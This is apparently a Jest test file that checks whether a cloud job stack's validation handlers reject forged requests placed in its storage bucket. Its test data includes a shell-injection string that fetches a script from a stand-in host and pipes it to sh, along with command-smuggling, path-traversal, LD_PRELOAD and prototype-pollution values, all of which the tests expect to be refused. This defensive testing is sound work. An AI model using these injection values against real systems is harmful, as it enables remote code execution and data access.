/** Requests that somebody with access to the stack's bucket has written, against the functions that read them. */
import { afterEach, beforeEach, describe, expect, jest, test } from '@jest/globals';
import { MemoryStore } from '../../../../core/memory-store.ts';
import { layout } from '../../../../core/run-store/layout.ts';
import { exists, type Store } from '../../../../core/store.ts';
import { eksRequest } from '../../../support/cloud/run.ts';
import type { EksRequest } from '../../../support/cloud/tasks.ts';

const stores = new Map<string, MemoryStore>();
const storeAt = (prefix: string): Store => {
  const store = stores.get(prefix) ?? new MemoryStore();
  stores.set(prefix, store);
  return store;
};
const found = {
  name: 'nightly',
  expression: 'rate(1 day)',
  timezone: null,
  request: 'requests/nightly.json',
};
/** What no forged request may reach. */
const unused = () => ({});
jest.unstable_mockModule('../../../../functions/lambda/ports.ts', () => ({
  bucketStores: async () => storeAt,
  schedules: () => ({ find: async () => found }),
  ...{ executions: unused, identities: unused, queues: unused, reservations: unused, notifier: unused },
}));
const { handler: validate } = await import('../../../../functions/validate/handler.ts');
const { handler: beginCleanUp } = await import('../../../../functions/cleanup/begin-handler.ts');
const { handler: reserve } = await import('../../../../functions/workers/reserve-handler.ts');
const { handler: notify } = await import('../../../../functions/notify/handler.ts');

const before = process.env;
beforeEach(() => {
  stores.clear();
  process.env = {
    ...before,
    GCD_BUCKET_NAME: 'bucket',
    GCD_STACK_NAME: 'gcd-sfn',
    GCD_VERSION: eksRequest().version,
    GCD_TOPIC_ARN: 'arn:aws:sns:us-west-2:123456789012:topic',
    GCD_RUN_MACHINE_ARN: 'arn:aws:states:us-west-2:123456789012:stateMachine:gcd-sfn-run',
    GCD_CLEAN_UP_MACHINE_ARN: 'arn:aws:states:us-west-2:123456789012:stateMachine:gcd-sfn-cleanup',
    AWS_REGION: 'us-west-2',
    GCD_MAX_NODES: '100',
    GCD_INSTANCE_TYPES: 'c*,m*',
    GCD_MAX_DISK_GIB: '1000',
  };
  jest.spyOn(console, 'log').mockImplementation(() => {});
});
afterEach(() => {
  process.env = before;
  jest.restoreAllMocks();
});

const context = { awsRequestId: '1' };
const put = (request: unknown, prefix = 'runs/evil/') =>
  storeAt(prefix).write(layout.request, typeof request === 'string' ? request : JSON.stringify(request));
const begin = () => validate({ input: { run: 'evil' }, execution: 'evil-1' }, context);

/** The request with another value at a place such as `target.nodes`. */
function changed(path: string, value: unknown): unknown {
  const request = structuredClone(eksRequest('evil')) as unknown as Record<string, unknown>;
  const keys = path.split('.');
  const last = keys.pop() ?? '';
  let place = request;
  for (const key of keys) place = place[key] as Record<string, unknown>;
  if (value === undefined) delete place[last];
  else place[last] = value;
  return request;
}

const script = "lab'; curl -s https://evil.example/x | sh; '";
const forged: [string, unknown][] = [
  ['target.cluster.name', script],
  ['target.cluster.name', ''],
  ['target.nodegroup.name', script],
  ['target.bastion', script],
  ['target.nodegroup.instanceType', 'p5.48xlarge; id'],
  ['target.nodegroup.diskGiB', 16_385],
  ['target.nodegroup.maxNodes', 1001],
  ['target.nodes', 1001],
  ['target.nodes', -1],
  ['target.workersPerNode', 1e9],
  ['target.region', 'us-west-2.evil.example'],
  ['target.cluster.version', '1.99; id'],
  ['target.cleanUp', 'yes'],
  ['target.image.digest', '../../licences/victim'],
  ['target.image.source', 'other-bucket/sources/d1.zip'],
  ['target.image.source', 'bucket/licences/victim'],
  ['target.kind', 'elsewhere'],
  ['target.tags', { 'aws:mine': 'x' }],
  ['run', 'victim'],
  ['run', '../victim'],
  ['projectKey', '../licences'],
  ['projectName', 'a/../b'],
  ['codeDigest', '../../../../../..'],
  ['version', '0.2.0\u001b[2J'],
  ['by', 'me\u001b[2J'],
  ['requestedAt', 'now'],
  ['repetitions', 1e6],
  ['workers', 0.5],
  ['selection', { kind: 'keys', keys: 'all', from: '' }],
  ['config.dataBucket', { kind: 's3', bucket: 'data/../other', prefix: '' }],
  ['config.savedBucket', 'my bucket; id'],
  ['config.fileNames.savedData', '../../.bashrc'],
  ['config.columnKeywords', ['(']],
  ['config.env', { 'LD_PRELOAD=/tmp/x;A': '1' }],
  ['config.pod', { hostNetwork: true }],
  ['config.notify', { kind: 'topic', arn: 'arn:aws:sqs:us-west-2:1:q' }],
  ['config.nodesWaitSeconds', 1e9],
  ['config.taskTimeoutSeconds', -1],
  ['config.budgetUsd', '1'],
  ['config.solverLicenceTarget', 'relative'],
  ['config', undefined],
  ['target', undefined],
  ['selection', null],
];

describe('a forged request', () => {
  test.each(forged)('with %s %j ends in the first state, which names the key', async (path, value) => {
    await put(changed(path, value));
    await expect(begin()).rejects.toMatchObject({
      name: 'RequestInvalid',
      message: expect.stringContaining(`${path}`),
    });
  });

  test.each(['', 'null', '[]', '7', '{', '{"run":"evil"}', '{"__proto__":{"run":"evil"}}'])(
    'that is %j is told as one, and no trouble of the function',
    async (text) => {
      await put(text);
      await expect(begin()).rejects.toMatchObject({ name: 'RequestInvalid' });
    },
  );

  test('gets no more of its value told than its key', async () => {
    await put(changed('config.env', { SECRET: ['hunter2'] }));
    const error = await begin().catch((thrown) => thrown as Error);
    expect(error).toMatchObject({ message: expect.stringContaining('config.env.SECRET') });
    expect(String(error)).not.toContain('hunter2');
  });

  test('begins no clean-up, and its end is told without what it says', async () => {
    await put(changed('target.cluster.name', script));
    await expect(
      beginCleanUp({ input: { run: 'evil', execution: 'evil-1' } }, context),
    ).rejects.toMatchObject({ name: 'RequestInvalid' });
    const outcome = { Error: 'RequestInvalid', Cause: '{"errorMessage":"the request cannot be used"}' };
    const told = await notify({ execution: 'evil-1', state: { run: 'evil', outcome } }, context);
    expect(told).toMatchObject({ Error: 'RequestInvalid' });
  });

  test('of a schedule begins no run', async () => {
    const stored = { ...(changed('target.bastion', script) as EksRequest), run: 'nightly' };
    await storeAt('').write('requests/nightly.json', JSON.stringify(stored));
    const asked = { input: { schedule: 'nightly', time: '2026-11-22T06:00:00Z' }, execution: 'e' };
    await expect(validate(asked, context)).rejects.toMatchObject({
      name: 'RequestInvalid',
      message: expect.stringContaining('target.bastion'),
    });
    expect(await exists(storeAt('runs/nightly-20261122-0600/'), layout.request)).toBe(false);
  });
});

describe('a request for more than the stack allows', () => {
  test.each([
    ['target.nodes', 1000, '1000 nodes: the stack does not allow that, its MaxNodes is 100'],
    ['target.nodegroup.instanceType', 'p5.48xlarge', 'its InstanceTypes is c*,m*'],
    ['target.nodegroup.diskGiB', 16_384, 'its MaxDiskGiB is 1000'],
  ])('by %s %j ends in the first state, and again where nodes are counted', async (path, value, message) => {
    await put(changed(path, value));
    const fault = { name: 'LimitExceeded', message: expect.stringContaining(message) };
    await expect(begin()).rejects.toMatchObject(fault);
    const asked = { run: 'evil', execution: 'evil-1', since: '2026-11-22T06:00:00Z' };
    await expect(reserve(asked, context)).rejects.toMatchObject(fault);
  });
});

describe('a request', () => {
  test('as it is written is taken', async () => {
    await put(eksRequest('evil'));
    expect(await begin()).toMatchObject({ run: 'evil', cluster: 'c' });
  });

  test('of a later version may have keys that are not known yet, which reach nothing', async () => {
    const request = eksRequest('evil');
    const { nodegroup } = request.target;
    const target = { ...request.target, later: 1, nodegroup: { ...nodegroup, userData: 'curl' } };
    await put({ ...request, later: 1, target, config: { ...request.config, later: { a: 1 } } });
    const state = await begin();
    expect(state).toMatchObject({ run: 'evil' });
    expect(JSON.stringify(state)).not.toMatch(/later|curl/);
  });
});
